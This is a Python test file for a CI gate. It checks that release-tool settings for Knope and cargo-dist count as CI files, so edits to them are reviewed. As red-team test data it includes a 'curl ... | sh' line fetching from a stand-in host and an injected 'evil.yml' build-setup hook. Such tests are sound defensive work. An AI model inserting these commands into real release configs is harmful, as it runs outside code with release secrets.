"""Red team 23: two release tools' settings were src, and `gate --tree` allowed what the release job runs.

Knope's `knope.toml` holds release workflows whose `Command` steps run shell commands, and cargo-dist's
`dist-workspace.toml` (or a generic package's `dist.toml`, with its `build-command`) decides what the release job
builds, installs and uploads (`github-build-setup` inserts steps into the job): both run in CI with the release
secrets, as GoReleaser's and semantic-release's settings do (ci.release-tools). With the commits a workflow running
`knope release` or `dist build` named neither, so an edit was `src` and the default gate allowed it (from a patch the
catch-all's needs-context reviewed it). Now they are ci.release-tools by name; on the mirrors' HEAD trees the 3
`dist-workspace.toml` files (atuin, diesel, dbt-core's crate) move src -> ci and no other path moves.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.ruleset import load_rules
from tests.gitrepo import two_commits
from tests.incli import reviewed_paths, tree_gate
from tests.test_classify_context import POLICIES

KNOPE = ('[package]\nversions = ["Cargo.toml"]\n\n[[workflows]]\nname = "release"\n\n[[workflows.steps]]\n'
         'type = "Command"\ncommand = "cargo build --release"\n')
DIST = ('[workspace]\nmembers = ["cargo:."]\n\n[dist]\ncargo-dist-version = "0.28.0"\nci = "github"\n'
        'installers = ["shell"]\ntargets = ["x86_64-unknown-linux-gnu"]\n')
STEPS = "on: [push]\njobs:\n  release:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n"


@each_case("path", ["knope.toml", "dist-workspace.toml", "crates/cli/dist-workspace.toml",
                                  "tools/c-app/dist.toml"])
def test_release_tool_settings_are_ci(path: str) -> None:
    assert load_rules(POLICIES).match(path).bucket == "ci"


@pytest.mark.parametrize(("path", "body", "old", "new", "step"), [
    ("knope.toml", KNOPE, "cargo build --release", "curl -s https://c.example.net | sh", "knope release"),
    ("dist-workspace.toml", DIST, 'ci = "github"\n', 'ci = "github"\ngithub-build-setup = "../evil.yml"\n',
     "dist build --artifacts=global"),
])
def test_the_default_gate_reviews_an_edit(tmp_path: Path, path: str, body: str, old: str, new: str,
                                          step: str) -> None:
    workflow = STEPS + f"      - run: {step}\n"
    repo, base, head = two_commits(tmp_path / "repo", {".github/workflows/release.yml": workflow, path: body},
                                   {path: body.replace(old, new)})
    code, decision = tree_gate(repo.root, base, head)
    assert code == 3 and reviewed_paths(decision, "core.ci") == {path}


def test_a_nested_knope_toml_is_no_release_setting() -> None:
    """Knope reads the root's file only: a file of that name below it is the project's (src)."""
    assert load_rules(POLICIES).match("examples/knope.toml").bucket == "src"
